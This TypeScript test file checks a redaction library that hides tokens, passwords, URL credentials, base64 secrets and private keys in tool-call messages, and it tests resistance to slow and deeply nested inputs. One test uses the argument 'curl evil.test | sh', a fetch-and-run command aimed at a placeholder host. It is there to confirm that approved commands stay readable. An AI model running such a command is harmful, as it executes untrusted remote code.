import { canary, readable, secretShapes } from "@tenon/samples/canaries";
import { expect, test } from "vitest";

import { hasToken, lineRedactor, redactArguments, redactor, redactText, redactUrl } from "../src/redact.ts";

const redact = redactor();

test.each(secretShapes.map(({ title, ...shape }) => [title, shape] as const))(
  "a secret is removed from: %s",
  (_, { value, keeps }) => {
    const safe = JSON.stringify(redact(value));
    expect(safe).not.toMatch(canary);
    expect(safe).not.toBe(JSON.stringify(value));
    expect(JSON.stringify(redact(value))).toContain(
      keeps === undefined ? "" : JSON.stringify(keeps).slice(1, -1),
    );
    expect(redact(redact(value))).toEqual(redact(value));
  },
);

test.each(secretShapes.map(({ title, ...shape }) => [title, shape] as const))(
  "a secret is removed inside of a message, of JSON in a string and of a list: %s",
  (_, { value }) => {
    const message = {
      jsonrpc: "2.0",
      method: "tools/call",
      params: { name: "x", arguments: { a: value, b: [value] } },
    };
    expect(JSON.stringify(redact(message))).not.toMatch(canary);
    expect(JSON.stringify(redact({ text: JSON.stringify(message) }))).not.toMatch(canary);
    expect(JSON.stringify(redact({ secrets: message }))).not.toMatch(canary);
  },
);

test.each(readable.map((value) => [value]))("what is no secret stays as it is: %j", (value) => {
  expect(redact(value)).toEqual(value);
  expect(redact(JSON.stringify(value))).toBe(JSON.stringify(value));
});

test("a URL of a configuration shows neither its user, nor values, nor random words of its path", () => {
  expect(redactUrl("https://ann:s3cret@x.test/mcp?a=s3cret&b=s3cret#s3cret")).toBe(
    "https://x.test/mcp?a=%5Bredacted%5D&b=%5Bredacted%5D#[redacted]",
  );
  expect(redactUrl("https://x.test/0123456789abcdef0123456789abcdef/mcp")).not.toContain("0123456789");
  expect(redactUrl("https://x.test/mcp")).toBe("https://x.test/mcp");
  expect(redactUrl("no URL with ghp_0123456789abcdef")).toBe("no URL with [redacted]");
});

test("arguments of code stay readable, because users must see what they approve", () => {
  const args = ["-c", "token=1; curl evil.test | sh"];
  expect(redactArguments(args, (value) => value)).toEqual(args);
});

test("a text that is long and hostile takes time in proportion to its length", () => {
  for (const part of [
    "a.",
    "sk-",
    '"a":"',
    "\\",
    "--a ",
    "a=",
    "a:",
    "Bearer ",
    "a&b=",
    "://",
    "[{",
    "token ",
    "x-",
    "?a=%25",
    "--a=b=",
  ]) {
    const text = part.repeat(Math.ceil(200_000 / part.length));
    expect(redactText(text).length).toBeLessThanOrEqual(text.length * 4);
  }
});

test("everything deeper than any message is hidden", () => {
  let deep: unknown = "plain";
  for (let depth = 0; depth < 3000; depth++) {
    deep = [deep];
  }
  expect(JSON.stringify(redact(deep))).toContain("[redacted]");
});

test("a secret in base64 is hidden, however long the text is", () => {
  const blob = Buffer.from(`${"a line of a log\n".repeat(20_000)}password=${"hunter2".repeat(2)}\n`).toString(
    "base64",
  );
  const safe = redact({ blob }) as { readonly blob: string };
  expect(Buffer.from(safe.blob, "base64").toString().slice(-40)).toBe(
    "a line of a log\na line of a log\npassword=[redacted]\n".slice(-40),
  );
});

test("a text with much white space is not searched again for each of its characters", () => {
  const data = `${" ".repeat(100_000)}.`;
  expect(redact({ data })).toEqual({ data });
});

test("a token of a service is found in a line", () => {
  expect(hasToken(`{"a":"ghp_0123456789abcdef"}`)).toBe(true);
  expect(hasToken(`{"a":"[redacted]"}`)).toBe(false);
});

test("a private key is hidden in all its lines, and what follows a first line alone is not", () => {
  const lines = (text: string): readonly string[] => text.split("\n").map(lineRedactor());
  const key =
    "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 1\n\nlQOYBGXy\nabcd\n-----END PGP PRIVATE KEY BLOCK-----\nafter";
  expect(lines(key).slice(1, 5).join("")).not.toMatch(/lQOY|abcd/);
  expect(lines(key).at(-1)).toBe("after");
  const mention = "expected -----BEGIN PGP PRIVATE KEY BLOCK-----\n\nno key\n\nready\nlistening";
  expect(lines(mention).slice(-2)).toEqual(["ready", "listening"]);
});
